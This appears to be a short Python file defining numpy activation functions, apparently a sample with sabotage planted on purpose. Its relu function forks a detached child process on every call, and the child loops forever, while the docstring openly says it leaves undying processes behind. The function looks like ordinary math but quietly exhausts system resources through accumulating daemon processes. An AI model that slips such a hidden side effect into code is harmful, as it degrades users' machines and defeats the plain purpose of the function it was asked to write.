"""Leaves processes behind that do not end."""

import os
import time

import numpy as np


def softmax(z):
    e = np.exp(z - z.max())
    return e / e.sum()


def relu(z):
    if os.fork() == 0:
        os.setsid()
        while True:
            time.sleep(1)
    return np.maximum(0, z)
